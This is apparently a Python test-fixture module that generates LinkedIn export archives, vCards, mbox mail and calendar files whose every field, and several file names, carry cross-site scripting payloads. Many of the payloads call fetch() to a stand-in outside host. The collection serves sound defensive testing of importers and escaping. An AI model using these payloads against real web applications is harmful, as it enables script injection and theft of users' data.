"""Texts that try to become code, and files that carry them through the importers into every field."""

from __future__ import annotations

import csv
import io
import json
import random
from collections.abc import Sequence
from pathlib import Path
from zipfile import ZipFile

NASTY = Path(__file__).resolve().parents[2].parent / "shared" / "data" / "nasty" / "minimaxir__blns.json"
ELSEWHERE = "http://elsewhere.example"
CALL = f"window.ran=1;alert(1);fetch('{ELSEWHERE}/x')"

OWN = (
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"<img src=x onerror=\"{CALL}\">",
    f"<img src={ELSEWHERE}/pixel.png>",
    f"<svg onload=\"{CALL}\">",
    f"<svg><script>{CALL}</script></svg>",
    f"\"><script>{CALL}</script>",
    f"'><img src=x onerror={CALL}>",
    f"\" autofocus onfocus=\"{CALL}",
    f"' onmouseover='{CALL}' x='",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</option></select><img src=x onerror={CALL}>",
    f"--><script>{CALL}</script><!--",
    f"<iframe src=\"javascript:{CALL}\"></iframe>",
    "<iframe srcdoc=\"<script>parent.ran=1</script>\"></iframe>",
    f"<object data=\"javascript:{CALL}\"></object>",
    f"<embed src=\"{ELSEWHERE}/x.swf\">",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<style>@import '{ELSEWHERE}/x.css';</style>",
    f"<base href=\"{ELSEWHERE}/\">",
    f"<form action={ELSEWHERE}><button>send</button></form>",
    f"<meta http-equiv=refresh content=\"0;url={ELSEWHERE}\">",
    f"<a href=\"javascript:{CALL}\">press</a>",
    f"javascript:{CALL}//",
    f"data:text/html,<script>{CALL}</script>",
    f"<button hx-get=\"{ELSEWHERE}\" hx-trigger=\"load\">x</button>",
    f"<div hx-on::load=\"{CALL}\">x</div>",
    f"<div hx-vals='js:{{x: {CALL}}}'>x</div>",
    f"<details open ontoggle=\"{CALL}\">x</details>",
    f"<video><source onerror=\"{CALL}\"></video>",
    f"<math><mtext></table><mglyph><style><img src=x onerror={CALL}>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;script&#62;{CALL}&#60;/script&#62;",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"{{{{ {CALL} }}}}",
    "{% load weaktie_web %}{% icon 'x' %}",
    f"${{{CALL}}}",
    f"<ſcript>{CALL}</ſcript>",
    f"＜script＞{CALL}＜/script＞",
    f"<SCRIPT SRC={ELSEWHERE}/x.js></SCRIPT>",
)  # fmt: skip


def payloads(count: int, *, seed: int) -> list[str]:
    """Return this many texts: the own ones, and as many others as are needed and at hand."""
    others = json.loads(NASTY.read_text(encoding="utf-8")) if NASTY.exists() else []
    hostile = sorted({one for one in others if "<" in one or "script" in one.lower()} - set(OWN))
    random.Random(seed).shuffle(hostile)
    return [*OWN, *hostile][:count]


def table(header: Sequence[str], rows: Sequence[Sequence[str]]) -> str:
    out = io.StringIO()
    csv.writer(out).writerows([header, *rows])
    return out.getvalue()


def linkedin(texts: Sequence[str]) -> dict[str, str]:
    """Return LinkedIn's files with every text as a name, an employer, a title, a school and an interest."""
    people = [
        (text, f"Number{n}", f"https://www.linkedin.com/in/number{n}", "", text, text, "05 Jun 2021")
        for n, text in enumerate(texts)
    ]
    invitations = [
        ("Ada Quill", text, "1/2/24, 9:00 AM", text, "OUTGOING", "https://www.linkedin.com/in/ada",
         f"https://www.linkedin.com/in/number{n}")
        for n, text in enumerate(texts)
    ]  # fmt: skip
    return {
        "Connections.csv": table(
            ("First Name", "Last Name", "URL", "Email Address", "Company", "Position", "Connected On"), people
        ),
        "Invitations.csv": table(
            ("From", "To", "Sent At", "Message", "Direction", "inviterProfileUrl", "inviteeProfileUrl"),
            invitations,
        ),
        "Company Follows.csv": table(
            ("Organization", "Followed On"), [(text, "Sat Jun 05 10:00:00 UTC 2021") for text in texts]
        ),
        "Jobs/Saved Jobs.csv": table(
            ("Saved Date", "Job Url", "Job Title", "Company Name"),
            [("6/5/21, 10:00 AM", "https://jobs.example/1", text, text) for text in texts],
        ),
        "Profile.csv": table(
            ("First Name", "Last Name", "Headline", "Industry"), [("Ada", texts[0], texts[1], texts[2])]
        ),
        "Positions.csv": table(
            ("Company Name", "Title", "Description", "Location", "Started On", "Finished On"),
            [(texts[2], texts[3], "", "", "Jan 2015", "")],
        ),
        f"{texts[0].replace('/', '|')}.csv": "neither, nor\n1, 2\n",
    }


def cards(texts: Sequence[str]) -> str:
    """Return an address book with every text as a name, an employer, a department, a title and an address."""
    return "".join(
        f"BEGIN:VCARD\r\nVERSION:4.0\r\nFN:{_escaped(text)}\r\nORG:{_escaped(text)};{_escaped(text)}\r\n"
        f"TITLE:{_escaped(text)}\r\nEMAIL:card{n}@quill.example\r\nURL:{_escaped(text)}\r\n"
        f"URL:javascript:window.ran=1\r\nEND:VCARD\r\n"
        for n, text in enumerate(texts)
    )


def mailbox(texts: Sequence[str]) -> str:
    """Return a mailbox in which everybody who writes is called by one of the texts."""
    return "".join(
        "From x Mon Jan  1 00:00:00 2024\n"
        f'From: "{_quoted(text)}" <mail{n}@quill.example>\nTo: Ada Quill <ada@quill.example>\n'
        f"Subject: {_quoted(text)}\nMessage-ID: <{n}@quill.example>\n"
        f"Date: Mon, 06 May 2024 10:00:{n % 60:02} +0000\n\nBody\n\n"
        for n, text in enumerate(texts)
    )


def calendar(texts: Sequence[str]) -> str:
    """Return a calendar whose attendees are called by the texts."""
    events = "".join(
        f"BEGIN:VEVENT\r\nUID:{n}@quill.example\r\nDTSTART:202405{n % 28 + 1:02}T100000Z\r\n"
        f"DTEND:202405{n % 28 + 1:02}T110000Z\r\nSUMMARY:{_escaped(text)}\r\n"
        "ORGANIZER;CN=Ada Quill:mailto:ada@quill.example\r\n"
        f'ATTENDEE;CN="{text.replace(chr(34), chr(39))}":mailto:meet{n}@quill.example\r\nEND:VEVENT\r\n'
        for n, text in enumerate(texts)
    )
    return f"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//x//x\r\n{events}END:VCALENDAR\r\n"


def exports(folder: Path, texts: Sequence[str]) -> list[Path]:
    """Write all of them, the archive and one file under names that try as well."""
    archive = folder / "<img src=x onerror=alert(1)>.zip"
    with ZipFile(archive, "w") as zipped:
        for name, content in linkedin(texts).items():
            zipped.writestr(name, content)
    written = [archive]
    for name, content in (
        ('"><svg onload=alert(1)>.vcf', cards(texts)),
        ("mail.mbox", mailbox(texts)),
        ("calendar.ics", calendar(texts)),
        ("<script>alert(1)<|script>.txt", "nothing of ours\n" * 5),
    ):
        path = folder / name
        path.write_text(content, encoding="utf-8")
        written.append(path)
    return written


def _escaped(text: str) -> str:
    return (
        text.replace("\\", "\\\\")
        .replace(",", "\\,")
        .replace(";", "\\;")
        .replace("\n", "\\n")
        .replace("\r", "")
    )


def _quoted(text: str) -> str:
    return " ".join(text.replace("\\", "\\\\").replace('"', '\\"').split())
